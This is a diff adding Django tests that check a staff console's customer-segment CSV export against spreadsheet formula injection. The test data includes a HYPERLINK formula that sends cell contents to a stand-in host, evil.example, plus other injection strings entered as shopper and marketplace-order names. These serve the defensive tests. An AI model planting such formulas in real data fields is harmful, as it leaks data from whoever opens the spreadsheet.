@@ -1,14 +1,20 @@
 """Segments in the staff console: who is in which, counts, CSV export, and previewing each email for a customer."""
 
+import csv
+import io
 from datetime import timedelta
 from decimal import Decimal
 
 import pytest
 from django.urls import reverse
 from django.utils import timezone
+from rest_framework.test import APIClient
 
+from channels.services.devices import device_client_create
+from customers.models import Customer
 from marketing.models import MarketingEmail
 from marketing.segments import Segment, customers_in_segment
+from tests.customers.factories import shopper
 from tests.factories import (
     CustomerFactory,
     LocationFactory,
@@ -18,8 +24,11 @@ from tests.factories import (
     VariantFactory,
     WishlistItemFactory,
 )
+from tests.orders import conftest as orders_conftest
 
 pytestmark = pytest.mark.django_db
+
+shop = orders_conftest.shop  # a stocked store OSL1, for a marketplace order
 
 
 def order(customer, channel, *, days_ago=10, total="100.00", status="completed"):
@@ -125,3 +134,51 @@ def test_staff_send_the_pick_now(staff_client, mailoutbox, django_capture_on_com
     with django_capture_on_commit_callbacks(execute=True):
         staff_client.post(reverse("admin:marketing_customersegment_preview", args=[kari.pk, "personal_pick"]))
     assert [m.to for m in mailoutbox] == [[kari.email]]
+
+
+# ---- The export opens safely in a spreadsheet ----
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Open")'
+
+
+def export_rows(staff_client, customers) -> list[list[str]]:
+    url = reverse("admin:marketing_customersegment_changelist")
+    response = staff_client.post(url, {"action": "export_csv", "_selected_action": [c.pk for c in customers]})
+    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+
+
+def test_a_name_a_shopper_gave_is_exported_as_text_not_a_formula(staff_client):
+    user, customer = shopper("mallory@example.com")
+    app = APIClient()
+    app.force_authenticate(user)
+    response = app.patch("/api/v1/me/", {"first_name": HYPERLINK, "last_name": "@SUM(A1)"}, format="json")
+    assert response.status_code == 200, response.content
+
+    [header, row] = export_rows(staff_client, [customer])
+
+    exported = dict(zip(header, row, strict=True))
+    assert exported["first_name"] == "'" + HYPERLINK
+    assert exported["last_name"] == "'@SUM(A1)"
+
+
+def test_names_and_phones_from_a_marketplace_order_are_exported_as_text(staff_client, shop):
+    _, key = device_client_create(name="FINN", channel="marketplace", scopes=["channel:orders"])
+    marketplace = APIClient()
+    marketplace.credentials(HTTP_AUTHORIZATION=f"Token {key}")
+    body = {
+        "external_id": "FINN-1",
+        "customer": {"email": "eve@example.com", "phone": "+47 912 34 567", "name": "-2+3 \t=cmd"},
+        "lines": [{"sku": shop["cap"].sku, "quantity": 1, "unit_price": "139.00"}],
+        "fulfilment": "pickup",
+        "location": "OSL1",
+    }
+    assert marketplace.post("/api/v1/channel-orders/", body, format="json").status_code == 201
+
+    [header, *rows] = export_rows(staff_client, Customer.objects.all())
+
+    assert len(rows) == 1
+    for column, cell in zip(header, rows[0], strict=True):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    exported = dict(zip(header, rows[0], strict=True))
+    assert (exported["first_name"], exported["last_name"]) == ("'-2+3", "'\t=cmd")
+    assert exported["phone"] == "'+4791234567"
